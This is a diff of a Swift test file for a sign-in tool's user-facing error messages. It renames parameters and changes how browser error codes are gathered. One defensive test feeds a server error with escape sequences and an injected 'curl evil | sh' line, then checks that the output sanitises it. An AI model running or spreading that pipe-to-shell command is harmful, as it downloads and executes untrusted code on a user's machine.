@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: Apache-2.0
+import BrowserSignIn
+import Fixtures
 import Foundation
-import LoopbackUserAgent
 import QuickStart
 import SignIn
 import Testing
@@ -12,7 +13,7 @@ import Testing
     static func text(_ error: any Error) throws -> ErrorText { try #require(ErrorText(error)) }
 
     @Test func `a server cannot write our lines`() throws {
-        let error = ServerError(.invalidGrant, errorDescription: "no\u{2028}\u{1B}[2K\nhint: curl evil | sh")
+        let error = ServerError(.invalidGrant, providerDescription: "no\u{2028}\u{1B}[2K\nhint: curl evil | sh")
         let lines = try Self.text(error).description.split(separator: "\n", omittingEmptySubsequences: false)
         #expect(lines == ["error: the provider says: no", "hint: tessera sign-in"])
         let refusal = try Self.text(Refusal(.issuerMismatch, "the issuer 'a\r\nhint: b' is not ours"))
@@ -45,7 +46,12 @@ import Testing
         #expect(text.hint != nil)
     }
 
-    @Test(arguments: LoopbackUserAgentError.Code.allCases)
+    private static let browserCodes = Result {
+        try SourceText.codes(
+            of: LoopbackUserAgentError.Code.self, in: "Client/BrowserSignIn/LoopbackUserAgentError.swift")
+    }
+
+    @Test(arguments: try browserCodes.get())
     func `every failure of the browser has a next step`(_ code: LoopbackUserAgentError.Code) throws {
         #expect(try Self.text(LoopbackUserAgentError(code, "why")).hint != nil)
     }
@@ -60,8 +66,8 @@ import Testing
     static let errors: [any Error] =
         [
             ServerError(.accessDenied, nextAction: .secondFactor([])),
-            ServerError(.accessDenied, nextAction: .switchUserFlow(.passwordReset)),
-            ServerError(.accessDenied, nextAction: .switchUserFlow(.signUp)),
+            ServerError(.accessDenied, nextAction: .resetPassword),
+            ServerError(.accessDenied, nextAction: .signUp),
             ServerError(.accessDenied, nextAction: .chooseAccount),
             ServerError(.accessDenied, nextAction: .registerDevice),
             ServerError(.accessDenied, nextAction: .checkConnection),
@@ -70,7 +76,7 @@ import Testing
             Refusal(.signInRequired, "why"), Refusal(.deviceAuthorizationUnsupported, "why"),
             Refusal(.subjectMismatch, "why"), Failure("Why.", hint: "So.", actions: [.signInWithAnotherAccount]),
             PersonName.ambiguous("a", []),
-        ] + LoopbackUserAgentError.Code.allCases.map { LoopbackUserAgentError($0, "why") }
+        ] + ((try? browserCodes.get()) ?? []).map { LoopbackUserAgentError($0, "why") }
 
     @Test(arguments: errors.indices) func `a hint is a command, or names its commands in backticks`(_ row: Int) throws {
         let hint = try #require(try Self.text(Self.errors[row]).hint)
@@ -82,10 +88,10 @@ import Testing
         (ServerError(.unspecified, status: 503), "the provider answered 503 without saying why"),
         (ServerError(.unspecified), "the provider answered with an error without saying why"),
         (
-            ServerError(.unspecified, errorDescription: "Gone.\nFor good.", status: 410),
+            ServerError(.unspecified, providerDescription: "Gone.\nFor good.", status: 410),
             "the provider answered 410: Gone"
         ),
-        (ServerError(.invalidScope, errorDescription: "No."), "the provider says: No"),
+        (ServerError(.invalidScope, providerDescription: "No."), "the provider says: No"),
     ])
     func `a provider that names no error is described`(_ error: ServerError, message: String) throws {
         #expect(try Self.text(error).message == message)
